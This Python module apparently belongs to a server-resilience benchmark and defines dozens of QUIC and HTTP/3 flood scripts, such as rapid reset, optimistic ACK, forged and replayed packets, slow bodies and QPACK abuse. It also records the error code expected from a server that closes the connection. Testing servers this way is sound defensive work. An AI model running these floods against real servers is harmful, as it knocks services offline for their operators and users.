"""The floods over QUIC: what each says on one connection, with keys; the names are those of docs.

A script is given its connection (`quic_peer.QuicPeer`). The attacker is one household with an
uplink of some tens of Mbit/s: what a flood of more than a link takes is decided before us.
"""

from collections.abc import Callable, Iterator
from itertools import count, cycle

from bench.floods import quic_frames as frames
from bench.floods.attacks import HIT, LARGE
from bench.floods.quic_frames import PING, frame, get, greeting, plain, section, stream
from bench.floods.quic_peer import QuicAttack, QuicPeer, Script

_PACKET_OCTETS = 1150
_CONTENT = plain(frames.HEADERS, 32_000) + bytes(1000)
"""Of a stream's beginning: means nothing before the rest of the field section comes."""
_STREAMS = 100
_PAUSE = 0.002
LOAD = "0x107"  # H3_EXCESSIVE_LOAD
_serial = count()


def _full(part: bytes) -> bytes:
    return part * max(1, _PACKET_OCTETS // len(part))


def repeated(part: bytes, *before: bytes) -> Callable[[QuicPeer], Script]:
    """Send the same again and again, as often as it fits into each packet."""

    def script(_peer: QuicPeer) -> Script:
        yield greeting()
        yield from before
        while True:
            yield _full(part)

    return script


def _requests(peer: QuicPeer) -> Iterator[int | None]:
    """Name the next stream for a request, None while the server allows no more."""
    for number in count():
        while number >= peer.windows.bidirectional:
            yield None
        yield 4 * number


def _each_stream(make: Callable[[int], bytes]) -> Callable[[QuicPeer], Script]:
    """Send what `make` says about one stream after another, as many to a packet as fit."""

    def script(peer: QuicPeer) -> Script:
        yield greeting()
        said = b""
        for stream_id in _requests(peer):
            part = b"" if stream_id is None else make(stream_id)
            if said and (not part or len(said) + len(part) > _PACKET_OCTETS):
                yield said
                said = b""
            said += part
            if not part:
                yield _PAUSE

    return script


def _flow(peer: QuicPeer, stream_id: int, data: Iterator[bytes], at: int = 0) -> Script:
    """Send data on a stream as far as its window goes, a piece to a packet."""
    for piece in data:
        while at + len(piece) > min(peer.windows.of(stream_id), peer.windows.data):
            yield _PAUSE
        yield stream(stream_id, piece, at)
        at += len(piece)


def _on_stream(stream_id: int, part: bytes, first: bytes = b"") -> Callable[[QuicPeer], Script]:
    """Send the same again and again behind what a stream of the greeting or a request begins with.

    A stream of the greeting has its type, and the control stream its SETTINGS.
    """

    def script(peer: QuicPeer) -> Script:
        yield greeting()
        at = {frames.CONTROL: 3, frames.ENCODER: 1, frames.DECODER: 1}.get(stream_id, 0)
        if first:
            yield stream(stream_id, first, at)
            at += len(first)
        yield from _flow(peer, stream_id, cycle([_full(part)[:_PACKET_OCTETS]]), at)

    return script


def _upload() -> bytes:
    return frame(frames.HEADERS, section(b"/upload", method=20))


def _miss(stream_id: int) -> bytes:
    return get(stream_id, b"/v1.0.0/%d/100.js" % next(_serial))


# --- packets and keys ---------------------------------------------------------------------------


def _forged(peer: QuicPeer) -> Script:
    yield greeting()
    while True:
        peer.forge()
        yield 0.0


def _replayed(peer: QuicPeer) -> Script:
    yield greeting()
    packet = peer.packet(PING * 20)
    while True:
        peer.throw(packet)
        yield 0.0


def _key_updates(peer: QuicPeer) -> Script:
    yield greeting()
    while True:
        peer.update_keys()
        heard = peer.received
        yield PING
        while peer.received == heard:
            yield _PAUSE


def _gaps(peer: QuicPeer) -> Script:
    yield greeting()
    while True:
        peer.skip(1)
        yield stream(0, _CONTENT[:64])


def _moves(*, answers: bool) -> Callable[[QuicPeer], Script]:
    def script(peer: QuicPeer) -> Script:
        yield greeting() + get(0, LARGE) + get(4, LARGE)
        while True:
            peer.move()
            for _ in range(3):
                challenges, peer.challenges = peer.challenges, []
                said = b"".join(b"\x1b" + each for each in challenges[:20])
                yield (said if answers else b"") + stream(8, _CONTENT[:64])

    return script


# --- frames -------------------------------------------------------------------------------------


def _holes(octets: int, streams: int) -> Callable[[QuicPeer], Script]:
    """Leave out every other piece; on many streams some less than would end it at once."""

    def script(_peer: QuicPeer) -> Script:
        yield greeting()
        pieces = max(1, _PACKET_OCTETS // (octets + 10))
        limit = 500 if streams == 1 else 200
        for first in cycle(range(0, limit, pieces)):
            for number in range(streams):
                yield b"".join(
                    stream(4 * number, bytes(octets), (1 + 2 * place) * octets)
                    for place in range(first, first + pieces)
                )

    return script


def _stops(_peer: QuicPeer) -> Script:
    """Use all streams up; none of them is over before this client says so."""
    yield greeting()
    for number in range(_STREAMS):
        yield frames.stop(4 * number)


def _ranges(peer: QuicPeer) -> Script:
    """Acknowledge every other packet of so many as fit, again and again."""
    yield greeting()
    ranges = 560
    yield get(0, LARGE) + get(4, LARGE)
    while len(peer.arrived) < 2 * ranges + 2:
        yield _PAUSE
    while True:
        yield frames.ack_of(list(peer.arrived)[::-2], ranges)


def _optimistic(peer: QuicPeer) -> Script:
    """Acknowledge all that may have been sent, so that more of it is (RFC 9000 section 21.4)."""
    yield greeting()
    yield get(0, LARGE) + get(4, LARGE)
    while True:
        yield frames.ack(peer.largest, peer.largest)
        yield 0.01


def _unacknowledged(peer: QuicPeer) -> Script:
    """Have something to acknowledge sent, and never say that it came."""
    yield greeting()
    while True:
        yield stream(0, _CONTENT[:64])


def _crumbs(peer: QuicPeer) -> Script:
    """Send content, an octet to a frame."""
    yield greeting() + stream(0, _upload() + frames.integer(frames.DATA) + frames.integer(1 << 30))
    begin = len(_upload()) + 5
    for first in count(begin, 180):
        while first + 180 > min(peer.windows.of(0), peer.windows.data):
            yield _PAUSE
        yield b"".join(stream(0, b"x", first + place) for place in range(180))


def _issued(_peer: QuicPeer) -> Script:
    yield greeting()
    for first in count(1, 38):
        yield b"".join(frames.new_connection_id(n, n) for n in range(first, first + 38))


def _retired(peer: QuicPeer) -> Script:
    yield greeting()
    done = 0
    while True:
        while done == peer.issued:
            yield _PAUSE
        numbers, done = range(done + 1, peer.issued + 1), peer.issued
        yield b"".join(plain(0x19, number) for number in numbers)


def _unidirectional(peer: QuicPeer) -> Script:
    yield greeting()
    for number in count(3):
        while number >= peer.windows.unidirectional:
            yield _PAUSE
        yield stream(2 + 4 * number, frames.integer(0x21 + 0x1F * 7), end=True)


# --- readers ------------------------------------------------------------------------------------


def _ask_for_all() -> Iterator[bytes]:
    for first in range(0, _STREAMS, 20):
        yield b"".join(get(4 * number, LARGE) for number in range(first, first + 20))


def _asks(then: Callable[[QuicPeer], Script]) -> Callable[[QuicPeer], Script]:
    """Ask for more than any window, then go on in some way."""

    def script(peer: QuicPeer) -> Script:
        yield greeting()
        yield from _ask_for_all()
        yield from then(peer)

    return script


def _silent(_peer: QuicPeer) -> Script:
    yield 0.5


def _pings(_peer: QuicPeer) -> Script:
    while True:
        yield 0.02
        yield PING


def _grows(peer: QuicPeer) -> Script:
    """Acknowledge whatever may have been sent, for a large window, and then nothing any more."""
    while peer.received < 1000:
        yield _PAUSE
    peer.acknowledges = False
    yield from _pings(peer)


def _acknowledges(peer: QuicPeer) -> Script:
    while True:
        yield 0.01
        yield peer.acknowledgement()


def _opens(step: int) -> Callable[[QuicPeer], Script]:
    """Open all windows by so many octets at a time."""

    def script(_peer: QuicPeer) -> Script:
        for limit in count(1024 + step, step):
            frames_ = [frames.max_stream_data(4 * number, limit) for number in range(_STREAMS)]
            yield b"".join([plain(0x10, limit * _STREAMS), *frames_])

    return script


def _downloads(peer: QuicPeer) -> Script:
    yield greeting()
    for stream_id in _requests(peer):
        yield _PAUSE if stream_id is None else get(stream_id, LARGE)


# --- requests -----------------------------------------------------------------------------------


def _endless_sections(_peer: QuicPeer) -> Script:
    """Begin requests whose fields never end."""
    yield greeting()
    for number in range(_STREAMS):
        yield stream(4 * number, _CONTENT)


def _slow_body(peer: QuicPeer) -> Script:
    yield greeting()
    head = _upload() + frames.integer(frames.DATA) + frames.integer(100_000)
    for number in range(_STREAMS):
        yield stream(4 * number, head)
    for at in count(len(head)):
        for number in range(_STREAMS):
            yield stream(4 * number, b"x", at)
            yield _PAUSE


def _once(_peer: QuicPeer) -> Script:
    yield greeting() + get(0, HIT)


_SETTINGS = frame(frames.SETTINGS)
_UNKNOWN = frame(frames.UNKNOWN)
_LARGE_UNKNOWN = frame(frames.UNKNOWN, bytes(1100))
_PRIORITY = frame(frames.PRIORITY_UPDATE, b"\0u=1")
_CSP = b"\xff\x16"  # two octets, of which the static table makes eighty

IDLE_FRAMES = {
    "PING": PING,
    "MAX_DATA": plain(0x10, 0),
    "MAX_STREAM_DATA": plain(0x11, 0, 0),
    "MAX_STREAMS": plain(0x12, 100),
    "DATA_BLOCKED": plain(0x14, 0),
    "STREAM_DATA_BLOCKED": plain(0x15, 0, 0),
    "STREAMS_BLOCKED": plain(0x16, 100),
    "PATH_CHALLENGE": b"\x1a" + bytes(8),
    "PATH_RESPONSE": b"\x1b" + bytes(8),
    "RESET_STREAM": frames.reset(0),
    "STOP_SENDING": frames.stop(0),
    "empty STREAM": stream(0),
    "the end again": stream(0, end=True),
    "empty CRYPTO": frames.crypto(0, b""),
    "ACK again": frames.ack(0, 0),
}
"""Frames that move nothing, but for the first of them."""


def _idle(peer: QuicPeer) -> Script:
    yield from repeated(IDLE_FRAMES[sorted(IDLE_FRAMES)[next(_serial) % len(IDLE_FRAMES)]])(peer)


BROKEN = (
    QuicAttack("key updates", _key_updates, ends="0xe"),
    QuicAttack(
        "CRYPTO behind the handshake", repeated(frames.crypto(0, bytes(1000))), ends="0x10a"
    ),
    QuicAttack("far CRYPTO", repeated(frames.crypto(500_000, b"x")), ends="0xd"),
    QuicAttack("ACK of what was not sent", repeated(frames.ack(1 << 30, 1 << 20)), ends="0xa"),
    QuicAttack("ACK of all there may be", _optimistic, ends="0xa", acknowledges=False),
    QuicAttack("holes", _holes(1, 1), ends="0x1"),
    QuicAttack("large holes", _holes(64, 1), ends="0x1"),
    QuicAttack("new connection IDs", _issued, ends="0x9"),
    QuicAttack("retired connection IDs", _retired, ends="0x1"),
    QuicAttack(
        "rapid reset of hits", _each_stream(lambda n: get(n, HIT) + frames.stop(n)), ends=LOAD
    ),
    QuicAttack(
        "rapid reset of misses", _each_stream(lambda n: _miss(n) + frames.stop(n)), ends=LOAD
    ),
    QuicAttack("RESET_STREAM of new streams", _each_stream(frames.reset), ends=LOAD),
    QuicAttack("streams of unknown types", _unidirectional, ends=LOAD),
    QuicAttack("windows by an octet", _asks(_opens(1)), data=1024, stream_data=1024, ends="0x1"),
    QuicAttack("second SETTINGS", _on_stream(frames.CONTROL, _SETTINGS), ends="0x105"),
    QuicAttack("PRIORITY_UPDATE", _on_stream(frames.CONTROL, _PRIORITY), ends=LOAD),
    QuicAttack("unknown frames", _on_stream(frames.CONTROL, _UNKNOWN), ends=LOAD),
    QuicAttack("large unknown frames", _on_stream(frames.CONTROL, _LARGE_UNKNOWN), ends=LOAD),
    QuicAttack("unknown frames of a request", _on_stream(0, _UNKNOWN, _upload()), ends=LOAD),
    QuicAttack("empty DATA", _on_stream(0, frame(frames.DATA), _upload()), ends=LOAD),
    QuicAttack("GOAWAY", _on_stream(frames.CONTROL, frame(frames.GOAWAY, b"\0")), ends=LOAD),
    QuicAttack(
        "MAX_PUSH_ID", _on_stream(frames.CONTROL, frame(frames.MAX_PUSH_ID, b"\0")), ends=LOAD
    ),
    QuicAttack("QPACK insertions", _on_stream(frames.ENCODER, b"\x41a\x01b"), ends="0x201"),
    QuicAttack("QPACK cancellations", _on_stream(frames.DECODER, b"\x41"), ends=LOAD),
    QuicAttack(
        "large fields (431)", _each_stream(lambda n: get(n, HIT, more=_CSP * 500)), ends=LOAD
    ),
    QuicAttack(
        "many fields (431)", _each_stream(lambda n: get(n, HIT, more=b"\xd1" * 150)), ends=LOAD
    ),
)
"""Those that are ended for what they say."""

BORNE = (
    QuicAttack("forged packets", _forged),
    QuicAttack("replayed packets", _replayed),
    QuicAttack("gaps in packet numbers", _gaps),
    QuicAttack("PADDING", repeated(b"\0")),
    QuicAttack("the same content again", repeated(stream(0, _CONTENT))),
    QuicAttack("holes in all streams", _holes(1, _STREAMS)),
    QuicAttack("ACK of many ranges", _ranges),
    QuicAttack("STOP_SENDING of new streams", _stops),
    QuicAttack("moves", _moves(answers=True)),
    QuicAttack("moves without an answer", _moves(answers=False)),
    QuicAttack("never acknowledges", _unacknowledged, acknowledges=False),
    QuicAttack("silent reader", _asks(_silent), acknowledges=False),
    QuicAttack("silent reader with PING", _asks(_pings), acknowledges=False),
    QuicAttack("fast reader that falls silent", _asks(_grows), connections=50),
    QuicAttack("shut windows", _asks(_acknowledges), data=65_536, stream_data=16_384),
    QuicAttack("windows by a kilobyte", _asks(_opens(1024)), data=1024, stream_data=1024),
    QuicAttack("endless field sections", _endless_sections),
    QuicAttack("slow body", _slow_body),
    QuicAttack("QPACK capacity", _on_stream(frames.ENCODER, b"\x20")),
)
"""Those that may go on for as long as they cost little; deadlines end some of them."""

DEAR = (
    QuicAttack("idle frames", _idle, ends="0x1"),
    QuicAttack("DATA of one octet", _on_stream(0, frame(frames.DATA, b"x"), _upload()), ends=LOAD),
    QuicAttack("STREAM of one octet", _crumbs, ends="0x1"),
    QuicAttack("downloads", _downloads),
    QuicAttack("hits", _each_stream(lambda n: get(n, HIT))),
    QuicAttack("misses", _each_stream(_miss)),
    QuicAttack("handshakes", _once, connections=32, holds=False),
)
"""What any client may ask for, in numbers; and what is ended at once, from the beginning again."""

QUIC_ATTACKS = (*BROKEN, *BORNE, *DEAR)
